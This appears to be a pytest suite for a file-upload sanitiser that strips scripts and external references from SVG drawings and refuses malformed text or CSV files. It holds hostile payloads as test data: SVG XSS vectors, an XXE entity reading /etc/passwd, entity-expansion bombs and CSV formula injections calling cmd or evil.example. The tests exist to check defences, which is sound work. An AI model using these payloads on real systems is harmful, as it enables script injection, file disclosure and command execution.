"""Drawings without anything that acts (knowledge: E3 1 to 5), and texts that are texts (E3 18, 22)."""

import base64
import time

import pytest

from assets.cleaning.clean import clean
from assets.cleaning.drawings import check_drawing
from assets.cleaning.refusal import RefusedError
from tests.files import logo_bytes, picture_bytes

START = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">'


def drawing(inside: str, before: str = "") -> bytes:
    return f'{before}{START}{inside}<path d="M0 0h9v9z"/></svg>'.encode()


@pytest.mark.parametrize(
    "danger",
    [
        "<script>alert(1)</script>",
        "<ScRiPt xlink:href='https://evil.example/a.js'/>",
        "<path onload='alert(1)' onclick='alert(2)'/>",
        "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></body></foreignObject>",
        "<a xlink:href='javascript:alert(1)'><path d='M0 0'/></a>",
        "<a href='java&#9;script:alert(1)'><path d='M0 0'/></a>",
        "<image href='https://evil.example/spy.png'/>",
        "<image href='data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+'/>",
        "<use href='https://evil.example/a.svg#b'/>",
        "<path style='fill:url(https://evil.example/a)'/>",
        "<handler type='text/javascript'>alert(1)</handler>",
        "<iframe src='https://evil.example'/>",
    ],
)
def test_nothing_in_a_drawing_acts_or_asks_others(danger):
    svg = clean(drawing(danger), "svg").content.decode().lower()

    assert "<path" in svg
    for word in ("alert", "script", "https://", "foreignobject", "onload", "onclick", "data:image/svg"):
        assert word not in svg.replace('"http://www.w3.org', ""), word


@pytest.mark.parametrize(
    "reference",
    [
        "<image href='https://evil.example/spy.png' width='9' height='9'/>",
        "<image xlink:href='//evil.example/spy.png'/>",
        "<image href='spy.png'/>",
        "<image href=' &#10;https://evil.example/spy.png'/>",
        "<use href='https://evil.example/spy.svg#b'/>",
        "<filter id='f'><feImage href='https://evil.example/spy.png'/></filter>",
        "<path fill='url(https://evil.example/spy.svg#a)'/>",
        "<path style='fill: URL( \"https://evil.example/spy.svg\" )'/>",
        "<path style='fill: u\\72l(https://evil.example/spy.svg)'/>",
        "<style>@import url(https://evil.example/spy.css);</style>",
        "<style>@\\69mport 'https://evil.example/spy.css'; path { fill: red }</style>",
        "<style>path { background: image-set('https://evil.example/spy.png' 1x) }</style>",
        "<style>@font-face { font-family: a; src: url(https://evil.example/spy.woff) }</style>",
        "<style><g/>@import url(https://evil.example/spy.css);</style>",
        "<style>path { fill: red }<a><g/>path { fill: url(https://evil.example/spy.svg) }</a></style>",
        "<style><![CDATA[path { fill: url(https://evil.example/spy.svg) }]]></style>",
    ],
)
def test_what_lies_elsewhere_is_taken_out_not_looked_for_here(reference):
    clean_file = clean(drawing(reference), "svg")

    assert clean_file.removed == {"references": 1}
    assert b"spy" not in clean_file.content
    assert b"evil" not in clean_file.content
    assert b"<image" not in clean_file.content
    assert b"<use" not in clean_file.content
    assert b'<path d="M0 0h9v9z"' in clean_file.content


def test_the_uploader_learns_how_much_of_each_kind_was_taken_out():
    dangers = (
        "<script>1</script><g onclick='a()' onload='b()'><script href='https://evil.example/a.js'/></g>"
        "<foreignObject><p xmlns='http://www.w3.org/1999/xhtml'>x</p></foreignObject>"
        "<a href='javascript:a()'><path d='M1 1'/></a><image href='https://evil.example/spy.png'/>"
        "<set attributeName='onclick' to='a()'/>"
    )

    assert clean(drawing(dangers), "svg").removed == {"events": 2, "pages": 1, "references": 1, "scripts": 4}


def test_what_a_drawing_brings_along_stays():
    picture = base64.b64encode(picture_bytes((3, 3))).decode()
    inside = (
        f"<defs><g id='a'><text>12 <!-- note --> km</text></g></defs><use xlink:href='#a'/>"
        f"<image href='data:image/png;base64,{picture}' width='3' height='3'/>"
        "<path fill='url(#b)' style='stroke: red'/>"
        "<style>.c &gt; path { fill: url(#b) }</style>"
    )
    clean_file = clean(drawing(inside), "svg")

    assert clean_file.removed == {}
    for part in (b'href="#a"', picture.encode(), b"url(#b)", b"stroke: red", b".c &gt; path { fill: url(#b) }"):
        assert part in clean_file.content


def test_a_drawing_whose_names_have_a_prefix_stays_a_drawing():
    content = b"<s:svg xmlns:s='http://www.w3.org/2000/svg' viewBox='0 0 9 9'><s:path d='M0 0h9v9z'/></s:svg>"

    check_drawing(clean(content, "svg").content)


@pytest.mark.parametrize(
    ("danger", "teeth"),
    [
        ("<style>@import url(https://evil.example/a.css);</style>", "import"),
        ("<animate attributeName='href' values='javascript:alert(1)'/>", "attributeName"),
        ("<set attributeName='onclick' to='alert(1)'/>", "attributeName"),
    ],
)
def test_what_the_cleaner_leaves_of_a_danger_has_no_teeth(danger, teeth):
    assert teeth not in clean(drawing(danger), "svg").content.decode()


def test_a_drawing_without_dangers_keeps_its_shapes_and_colours():
    svg = clean(logo_bytes(), "svg").content

    assert b'd="M10 5h60v30H10z"' in svg
    assert b"#1F5A41" in svg


def test_the_plain_declaration_of_drawing_programs_does_no_harm():
    doctype = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'

    assert b"DOCTYPE" not in clean(drawing("", before=doctype), "svg").content


LAUGHS = '<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
OUTSIDE = '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
BAD_DRAWINGS = {
    "entities": (drawing("<text>&b;</text>", before=LAUGHS), "drawing-doctype"),
    "entity of another file": (drawing("<text>&x;</text>", before=OUTSIDE), "drawing-doctype"),
    "20,000 groups in each other": (drawing("<g>" * 20_000 + "</g>" * 20_000), "drawing-size"),
    "65 levels": (drawing("<g>" * 65 + "</g>" * 65), "drawing-size"),
    "20,001 shapes": (drawing("<g/>" * 20_000), "drawing-size"),
    "over 2 MB": (drawing(f"<text>{'x' * 2**21}</text>"), "drawing-size"),
    "page": (b"<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>", "drawing-broken"),
    "picture": (b"\x89PNG\r\n\x1a\n", "drawing-broken"),
    "torn": (drawing("")[:-8], "drawing-broken"),
    "empty": (b"", "empty"),
}


@pytest.mark.parametrize("name", BAD_DRAWINGS)
def test_a_drawing_that_costs_too_much_or_is_none_is_refused_at_once(name):
    content, reason = BAD_DRAWINGS[name]
    begin = time.process_time()

    with pytest.raises(RefusedError) as refusal:
        clean(content, "svg")

    assert refusal.value.reason == reason
    assert time.process_time() - begin < 1


@pytest.mark.parametrize(
    ("kind", "content"),
    [
        ("txt", "Crème, 化粧品, مستحضرات".encode()),
        ("txt", "Crème".encode("utf-16")),
        ("csv", b"\xef\xbb\xbfcountry,growth\r\nFR,-3.5\r\nJP,+2\r\ncontact,info@example.org"),
        ("csv", b"name,phone\nAnn,+33 (0)1 23 45\nBen,+33(0)1 23 45\n- later (perhaps),@handle\n-3.5 (2025),a|b=c"),
        ("csv", "国,成長\n日本,－3.5\nタイ,＋2（推定）".encode()),
    ],
)
def test_texts_become_utf_8_and_numbers_stay_numbers(kind, content):
    clean(content, kind).content.decode()


@pytest.mark.parametrize("piece", ["\t", "|-", ",-", "-", "' ", "a(", "|a(", "aa"])
def test_a_table_of_one_long_line_is_read_in_time(piece):
    begin = time.process_time()

    clean(f"name {piece * 200_000}".encode(), "csv")

    assert time.process_time() - begin < 3


@pytest.mark.parametrize(
    ("kind", "content", "reason"),
    [
        ("txt", "Crème".encode("latin-1"), "text-encoding"),
        ("txt", b"a\0b", "text-encoding"),
        ("txt", b"MZ\x90 a program", "kind"),
        ("txt", b"%PDF-1.7", "kind"),
        ("csv", b"PK\x03\x04", "kind"),
        ("csv", b'name,sum\nAnn,"=HYPERLINK(""https://evil.example"")"', "text-formula"),
        ("csv", b"name;sum\nAnn;=cmd|' /C calc'!A0", "text-formula"),
        ("csv", b"name\n@SUM(1+1)", "text-formula"),
        ("csv", b"name\n-cmd|x!A1", "text-formula"),
        ("csv", b'name\n"\t=1+1"', "text-formula"),
        ("csv", b'name\n"a\r=1+1"', "text-formula"),
        ("csv", b'name\r"\x0b =1+1"', "text-formula"),
        ("csv", b"name\n+1+cmd|' /C calc'!A0", "text-formula"),
        ("csv", b"name\n-2+3+HYPERLINK(1)", "text-formula"),
        ("csv", b"name\n-'https://evil.example/[a.xls]b'!A1", "text-formula"),
        ("csv", b"a|=1+1", "text-formula"),
        ("csv", "name\n＝1+1".encode(), "text-formula"),
        ("csv", "name\n＋ＳＵＭ（1）".encode(), "text-formula"),
        ("csv", "name\n＠SUM(1)".encode(), "text-formula"),
        ("csv", "name\n\u00a0\u200b\ufeff'\"=1+1".encode(), "text-formula"),
        ("csv", "name\n“=1+1".encode(), "text-formula"),
        ("exe", b"MZ", "kind"),
    ],
)
def test_what_is_no_text_or_would_run_in_a_spreadsheet_is_refused(kind, content, reason):
    with pytest.raises(RefusedError) as refusal:
        clean(content, kind)

    assert refusal.value.reason == reason
